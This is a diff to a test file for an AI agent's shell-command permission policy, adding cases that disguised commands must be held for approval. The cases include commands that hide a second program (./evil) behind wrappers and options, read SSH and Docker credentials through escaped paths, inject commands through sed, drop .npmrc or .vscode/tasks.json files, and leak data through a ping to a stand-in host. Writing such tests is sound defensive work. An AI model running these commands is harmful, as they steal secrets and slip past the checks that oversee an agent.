@@ -1,3 +1,5 @@
+/* eslint-disable no-template-curly-in-string -- these are command lines */
+
 import { join } from 'node:path'
 import t from 'tap'
 import { decide, type PolicyContext } from '../../../services/agent/policy/index.js'
@@ -51,4 +53,32 @@ for (const [what, commands] of Object.entries(lines)) {
 t.test('loops, traps and functions of every day are as good as before', async (t) => {
   for (const command of ['for d in */; do (cd "$d" && npm test); done', 'for f in *.ts; do x=$f; cat $x; done', 'i=0; while true; do i=$((i+1)); ls; done', 'out=; for f in a b c; do out="$out $f"; done; echo "$out"',
     'while read -r line; do echo "$line"; done < a', 'f() { npm test; }; f; f', "trap 'ls' EXIT; npm test", "bash -c 'set -euo pipefail; cat $1' x README", "bash -c 'set -- README; cat $1'", 'for i in a b; do for j in c d; do echo $i $j; done; done']) t.equal(verdictOf(command), 'allow', command)
+})
+
+/** Calls in which another word is the command, the script or the place than it seems. */
+const calls: Record<string, string[]> = {
+  'an option whose value has to hang on it does not take the next word': ['-i', '-l', '-e', '-0i', '--replace', '--max-lines', '--eof'].map((option) => `echo x | xargs ${option} ./evil true`),
+  'a wrapper runs what it takes for the command': ['chrt -b ./evil ls', 'setarch -R ./evil ls', 'setarch ./evil ls', 'flock f ./evil -c ls', 'flock f -c ./evil', 'ls | entr ./evil -s ls', 'script -c./evil ls', 'fakeroot -l ./evil.so ls',
+    'valgrind --tool=../../../home/ann/workspace/evil ls', 'mise exec jq -- ./evil'],
+  'what is printed with signs of its own may be something else': ["git grep \"$(echo -e '\\x2dO./evil')\" x", "cat $(echo -e '/home/ann/.s\\x73h/id_rsa')"],
+  'sed may let a mark stand between brackets': ["sed 's/[/]/p;s/e;e id#/x/' a", "sed '/[/]/p;s/e;e id#/x/' a", "sed 's/[[:space:]/]/p;s/e;e id#/x/' a", "sed 's/[]/]/p;s/e;e id#/x/' a", "sed 's,[^,],p;s,e;e id#,x,' a"],
+  'jq and yq read other files': ["jq -n 'import #\n \"/home/ann/.docker/config\" as $x; $x'", "yq 'eval(\"lo\" + \"ad_str(...)\")' a"],
+  'the value of an option is no setting of git': ['git config set --value user.name core.pager ./evil', 'git config set --comment user.name core.pager ./evil'],
+  'curl and wget write what the file, the list or the address says': ['curl -w @fmt https://a.example/x', 'curl -sw@fmt https://a.example/x', 'curl --write-out @fmt https://a.example/x', 'curl -w "$FMT" https://a.example/x', 'curl --url @list https://a.example/x',
+    'curl -O --remote-header-name https://a.example/x', 'wget --content-disposition https://a.example/x', 'wget https://a.example/.npmrc', 'wget https://a.example/%2enpmrc?x=/a', 'wget -P .vscode https://a.example/tasks.json', 'curl -sO https://a.example/.npmrc',
+    'curl --remote-name --output-dir .vscode https://a.example/tasks.json'],
+  'whoever is asked about is contacted': ['ping -c 3 b.example', 'ping $(cat a).b.example'],
+  'a list of words is run through': ["compgen -W '$(./evil)'", "compgen -A file -W '$(./evil)'"]
+}
+
+for (const [what, commands] of Object.entries(calls)) {
+  t.test(what, async (t) => {
+    for (const command of commands) t.equal(verdictOf(command), 'ask', command)
+  })
+}
+
+t.test('the same programs as people use them are as good as before', async (t) => {
+  for (const command of ['flock f -c ls', 'flock -n f ls', 'ls | entr -s ls', 'fakeroot ls', 'valgrind --tool=massif ls', 'mise exec -- ls', 'mise exec node@20 -- ls', 'taskset -c 0 ls', 'chrt -f 10 ls', 'setarch x86_64 ls', 'cat $(echo README)',
+    "sed 's/[^\\/]*$//' a", "sed 's/[\\[\\]]//g' a", "sed 's|[[:space:]]*|x|' a", "sed 's,[^/]*/,,g' a", "sed -n '/^\\[/,/^$/p' a", "jq '.import' a", "yq '.eval' a", 'git config user.name x', 'curl -w "%{http_code}" https://a.example/x',
+    'curl -O https://a.example/x.tgz', 'wget https://a.example/x.tgz', 'wget https://a.example/', 'wget -qO- https://a.example/.npmrc', 'ping -c 3 a.example', 'echo x | xargs -I{} echo {}', 'compgen -A file']) t.equal(verdictOf(command), 'allow', command)
 })
